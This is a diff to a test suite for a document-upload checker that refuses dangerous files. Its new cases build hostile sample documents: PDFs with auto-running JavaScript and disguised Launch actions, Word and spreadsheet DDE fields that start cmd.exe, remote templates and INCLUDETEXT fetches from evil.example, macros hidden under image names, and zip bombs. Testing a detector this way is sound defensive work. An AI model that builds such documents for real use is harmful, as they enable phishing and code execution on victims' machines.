@@ -8,7 +8,7 @@ import { describe, expect, test } from 'vitest'
 import { testFiles } from '../../../tests/files.ts'
 import { Refused } from '../errors.ts'
 import { safeFileName } from './file-name.ts'
-import { compound, docx, elf, exe, jpg, mp3, mp4, odt, pdf, png, relsOf, text, typesOf, zipOf } from './files.fixture.ts'
+import { compound, docx, elf, exe, fieldOf, jpg, mp3, mp4, odt, packedPdf, pdf, png, relsOf, text, typesOf, zipOf } from './files.fixture.ts'
 import { keepFile, openFile, type Takes } from './files.ts'
 import { documentKinds, materialKinds, scanKinds } from './media-types.ts'
 import { serveFile } from './serve.ts'
@@ -17,6 +17,9 @@ const files = await testFiles()
 const most = 8 * 1024 * 1024
 const take = (content: AsyncIterable<Uint8Array> | Uint8Array, takes: Partial<Takes> = {}) => keepFile(files, content, { allowed: materialKinds, most, ...takes })
 const refusalOf = (work: Promise<unknown>) => work.then(() => 'taken', (error: unknown) => (error instanceof Refused ? { field: error.field, vi: error.sentence('vi'), en: error.sentence('en') } : Promise.reject(error as Error)))
+const book = zipOf([typesOf('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'), { name: 'xl/workbook.xml', content: '<workbook/>' }])
+const runs = '<< /S /JavaScript /JS (app.alert(1)) >>'
+const odtWith = (content: string) => zipOf([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', isStored: true }, { name: 'content.xml', content }, { name: 'META-INF/manifest.xml', content: '<m/>' }])
 const office = (kind: string) => `application/vnd.openxmlformats-officedocument.${kind}.main+xml`
 
 describe('what a file is, its bytes say', () => {
@@ -33,6 +36,11 @@ describe('what a file is, its bytes say', () => {
     ['plain text', 'txt', Buffer.from('Kế hoạch số 17-KH/TU\r\nvề học tập Nghị quyết')],
     ['text of Notepad with a mark', 'txt', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('Kế hoạch', 'utf16le')])],
     ['Word with the template of its user', 'docx', zipOf([typesOf(), text, relsOf('attachedTemplate', 'file:///C:\\Users\\lan\\Normal.dotm')])],
+    ['Word with a list of contents and a picture of a page', 'docx', zipOf([typesOf(), fieldOf(' TOC \\o "1-3" ', ' HYPERLINK "https://example.vn/dde" ', ' INCLUDEPICTURE "https://example.vn/a.png" ')])],
+    ['Word with a workbook and a chart of an older program in it', 'docx', zipOf([typesOf(), text, { name: 'word/embeddings/a.xlsx', content: book }, { name: 'word/embeddings/oleObject1.bin', content: compound('Equation Native') }])],
+    ['slides with a button to the next', 'pptx', zipOf([typesOf(office('presentationml.presentation')), { name: 'ppt/slides/slide1.xml', content: '<p:sld><a:hlinkClick r:id="" action="ppaction://hlinkshowjump?jump=nextslide"/></p:sld>' }])],
+    ['a PDF with packed objects', 'pdf', packedPdf('<< /Type /Page /Contents (Kế hoạch) >>')],
+    ['a PDF whose page begins with numbers', 'pdf', Buffer.from(packedPdf('0 0 1 cm BT (/JavaScript ) Tj ET', '/Filter /FlateDecode').toString('latin1').replace('/N 1 /First 4', ''), 'latin1')],
     ['Word with a link', 'docx', zipOf([typesOf(), text, relsOf('hyperlink', 'https://example.vn')])],
   ])('%s is %s', async (_, kind, content) => {
     const kept = await take(await content)
@@ -41,7 +49,7 @@ describe('what a file is, its bytes say', () => {
     await kept.drop()
   })
 
-  test.each<[string, Uint8Array, string]>([
+  test.each<[string, Uint8Array, string | RegExp]>([
     ['a program', exe, 'Tệp này là chương trình'],
     ['a program of Linux', elf, 'Tệp này là chương trình'],
     ['a document with a program in it', zipOf([typesOf(), text, { name: 'word/embeddings/thu.exe', content: exe }]), 'Tệp này là chương trình'],
@@ -63,6 +71,42 @@ describe('what a file is, its bytes say', () => {
     ['a locked PDF', Buffer.from('%PDF-1.4\ntrailer << /Encrypt 5 0 R >>\n%%EOF'), 'Tệp có mật khẩu'],
     ['a PDF that runs', Buffer.from('%PDF-1.4\n<< /S /JavaScript /JS (app.alert(1)) >>\n%%EOF'), 'Tệp PDF này có mã tự chạy'],
     ['a PDF that starts a program, hidden', Buffer.from('%PDF-1.4\n<< /S /L#61unch /F (cmd.exe) >>\n%%EOF'), 'Tệp PDF này có mã tự chạy'],
+    ['a PDF that runs, its name ended by a nought', Buffer.from('%PDF-1.4\n<< /S /JavaScript\0/JS (app.alert(1)) >>\n%%EOF'), 'Tệp PDF này có mã tự chạy'],
+    ['a PDF that runs, its name ended by a remark', Buffer.from('%PDF-1.4\n<< /S /JavaScript%\n/JS (app.alert(1)) >>\n%%EOF'), 'Tệp PDF này có mã tự chạy'],
+    ['a PDF that runs a form', Buffer.from('%PDF-1.7\n<< /AcroForm << /XFA 5 0 R >> >>\n%%EOF'), 'Tệp PDF này có mã tự chạy'],
+    ['a PDF that runs with a film', Buffer.from('%PDF-1.7\n<< /S /Rendition /JS (app.alert(1)) >>\n%%EOF'), 'Tệp PDF này có mã tự chạy'],
+    ['a PDF that runs, packed', packedPdf(runs), 'Tệp PDF này có mã tự chạy'],
+    ['a PDF that runs, packed with its name in numbers', packedPdf('<< /S /Java#53cript /JS (app.alert(1)) >>'), 'Tệp PDF này có mã tự chạy'],
+    ['a PDF that runs, packed in what is not said to hold objects', packedPdf(runs, '/Filter /FlateDecode'), 'Tệp PDF này có mã tự chạy'],
+    ['a PDF that runs, packed behind a long list', packedPdf(`[ ${'0 '.repeat(400_000)}] ${runs}`), 'Tệp PDF này có mã tự chạy'],
+    ['a PDF that runs, packed with a wrong sum', packedPdf(runs, undefined, (packed) => Buffer.concat([packed.subarray(0, -4), Buffer.alloc(4)])), /Tệp PDF này có mã tự chạy|Tệp bị hỏng/],
+    ['a PDF with objects packed twice', packedPdf(runs, '/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]', (packed) => Buffer.from(`${packed.toString('hex')}>`)), 'Tệp có tệp khác đính hoặc gói bên trong'],
+    ['a PDF with objects packed as pictures are', packedPdf(runs, '/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 5 >>'), 'Tệp có tệp khác đính hoặc gói bên trong'],
+    ['a PDF with a program attached', Buffer.from('%PDF-1.7\n<< /Names << /EmbeddedFiles 4 0 R >> >>\n%%EOF'), 'Tệp có tệp khác đính hoặc gói bên trong'],
+    ['a PDF with a program attached, packed', packedPdf('<< /Type /Filespec /F (thu.exe) /EF << /F 9 0 R >> >>'), 'Tệp có tệp khác đính hoặc gói bên trong'],
+    ['a locked PDF, with a remark', Buffer.from('%PDF-1.4\ntrailer << /Encrypt%\n5 0 R >>\n%%EOF'), 'Tệp có mật khẩu'],
+    ['Word that starts a program', zipOf([typesOf(), fieldOf('DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')]), 'Tệp có lệnh tự gọi chương trình khác'],
+    ['Word that starts a program, its field in pieces', zipOf([typesOf(), fieldOf(' D', 'D', '&#69;', ' excel ', '"cmd"')]), 'Tệp có lệnh tự gọi chương trình khác'],
+    ['Word that starts a program from a plain field', zipOf([typesOf(), { name: 'word/header1.xml', content: `<w:hdr><w:fldSimple w:instr='DDE "c:\\a.exe"'/></w:hdr>` }]), 'Tệp có lệnh tự gọi chương trình khác'],
+    ['Word that starts a program, in wide letters', zipOf([typesOf(), { name: 'word/document.xml', content: Buffer.from(`\ufeff${fieldOf('DDEAUTO cmd').content}`, 'utf16le') }]), 'Tệp có lệnh tự gọi chương trình khác'],
+    ['Word that takes in a text from elsewhere', zipOf([typesOf(), fieldOf(' INCLUDETEXT "https://evil.example/a.docx" ')]), 'Tệp lấy mẫu hoặc phần nhúng từ một địa chỉ bên ngoài'],
+    ['a workbook that starts a program', zipOf([typesOf(office('spreadsheetml.sheet')), { name: 'xl/externalLinks/externalLink1.xml', content: '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>' }]), 'Tệp có lệnh tự gọi chương trình khác'],
+    ['slides with a button that starts a program', zipOf([typesOf(office('presentationml.presentation')), { name: 'ppt/slides/slide1.xml', content: '<p:sld><a:hlinkHover r:id="rId2" action="&#112;paction://program"/></p:sld>' }]), 'Tệp có lệnh tự gọi chương trình khác'],
+    ['a program under the name of a picture in a document', zipOf([typesOf(), text, { name: 'word/media/image1.png', content: exe }]), 'Tệp này là chương trình'],
+    ['macros under the name of a picture in a document', zipOf([typesOf(), text, { name: 'word/media/image1.png', content: compound('_VBA_PROJECT') }]), 'Tệp có macro'],
+    ['a package with any file in it', zipOf([typesOf(), text, { name: 'word/embeddings/oleObject1.bin', content: compound('\u0001Ole10Native') }]), 'Tệp có tệp khác đính hoặc gói bên trong'],
+    ['a document with a workbook with macros', zipOf([typesOf(), text, { name: 'word/embeddings/a.xlsx', content: zipOf([typesOf(office('spreadsheetml.sheet')), { name: 'xl/vbaProject.bin', content: 'x' }]) }]), 'Tệp có macro'],
+    ['a document with a zip of anything', zipOf([typesOf(), text, { name: 'word/embeddings/a.bin', content: zipOf([{ name: 'a.txt', content: 'a' }]) }]), 'Tệp có tệp khác đính hoặc gói bên trong'],
+    ['a document in a document in a document', zipOf([typesOf(), text, { name: 'word/a.docx', content: zipOf([typesOf(), text, { name: 'word/a.docx', content: docx }]) }]), 'Tệp có tệp khác đính hoặc gói bên trong'],
+    ['a document with a bomb inside', zipOf([typesOf(), text, { name: 'word/a.docx', content: zipOf([typesOf(), { name: 'word/document.xml', content: Buffer.alloc(40 * 1024 * 1024) }]) }]), 'Tệp bung ra quá lớn'],
+    ['a page that Word takes in', zipOf([typesOf(), text, relsOf('aFChunk', 'a.html', 'Internal')]), 'Tệp có tệp khác đính hoặc gói bên trong'],
+    ['macros that a relationship alone tells of', zipOf([typesOf(), text, relsOf('vbaProject', 'a.bin', 'Internal')]), 'Tệp có macro'],
+    ['a template from elsewhere, told in a part with capital letters', zipOf([typesOf(), text, { ...relsOf('attachedTemplate', 'http://evil.example/t.dotm'), name: 'word/_RELS/settings.xml.Rels' }]), 'Tệp lấy mẫu hoặc phần nhúng từ một địa chỉ bên ngoài'],
+    ['a template from elsewhere, told in a part whose name is in numbers', zipOf([typesOf(), text, { ...relsOf('attachedTemplate', 'http://evil.example/t.dotm'), name: 'word/_rels/settings.xml%2Erels' }]), 'Tệp lấy mẫu hoặc phần nhúng từ một địa chỉ bên ngoài'],
+    ['a document of LibreOffice that calls a macro', odtWith('<office:document-content><script:event-listener xlink:href="vnd.sun.star.script:a.py$b"/></office:document-content>'), 'Tệp có macro'],
+    ['a document of LibreOffice that starts a program', odtWith('<text:dde-connection-decl office:dde-application="cmd"/>'), 'Tệp có lệnh tự gọi chương trình khác'],
+    ['a document of LibreOffice with a part from elsewhere', odtWith('<text:section-source xlink:href="https://evil.example/a.odt"/>'), 'Tệp lấy mẫu hoặc phần nhúng từ một địa chỉ bên ngoài'],
+    ['a document of Word that says it is LibreOffice’s too', zipOf([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', isStored: true }, typesOf(), text]), 'Tệp này vừa là loại này vừa là loại khác'],
     ['a bomb that says so', zipOf([typesOf(), { ...text, claims: 0xfffffff0 }]), 'Tệp bung ra quá lớn'],
     ['a bomb', zipOf([typesOf(), { name: 'word/document.xml', content: Buffer.alloc(40 * 1024 * 1024) }]), 'Tệp bung ra quá lớn'],
     ['a part that is larger than it says', zipOf([typesOf(), { name: 'word/document.xml', content: Buffer.alloc(900_000), claims: 10 }]), 'Tệp bị hỏng'],
@@ -81,7 +125,7 @@ describe('what a file is, its bytes say', () => {
     ['nothing', Buffer.alloc(0), 'Tệp trống'],
   ])('%s is refused', async (_, content, sentence) => {
     const refusal = await refusalOf(take(content, { field: 'scan', name: 'ke-hoach.pdf' }))
-    expect(refusal).toMatchObject({ field: 'scan', vi: expect.stringContaining(sentence) as string, en: expect.stringMatching(/^[A-Z].*\.$/) as string })
+    expect(refusal).toMatchObject({ field: 'scan', vi: expect.stringMatching(sentence) as string, en: expect.stringMatching(/^[A-Z].*\.$/) as string })
   })
 
   test('what the caller does not take is refused by its kind', async () => {
@@ -188,6 +232,13 @@ describe('a file that is served', async () => {
     expect((await ask({}, 'HEAD', { isInline: true })).headers.get('content-disposition')).toMatch(/^inline; /)
     const note = await serveFile(files, { ...attached, mediaType: 'text/plain; charset=utf-8' }, new Request('http://x/', { method: 'HEAD' }), { isInline: true })
     expect(note.headers.get('content-disposition')).toMatch(/^attachment; /)
+  })
+  test('shown in its place, it may load itself and nothing else, and nothing runs', async () => {
+    const policyOf = async (mediaType: string) => (await serveFile(files, { ...attached, mediaType }, new Request('http://x/', { method: 'HEAD' }), { isInline: true })).headers.get('content-security-policy')
+    // without these a recording that is opened stays silent: the browser's own page around it loads it from its own origin
+    expect(await policyOf('video/mp4')).toBe("default-src 'none'; img-src 'self'; media-src 'self'; style-src 'unsafe-inline'; sandbox allow-same-origin; frame-ancestors 'none'")
+    expect(await policyOf('application/pdf')).toMatch(/^default-src 'none'; object-src 'self';(?!.*script)/)
+    expect(await policyOf('text/plain; charset=utf-8')).toBe("default-src 'none'; sandbox; frame-ancestors 'none'")
   })
   test('any part that is asked for is that part', () =>
     fc.assert(
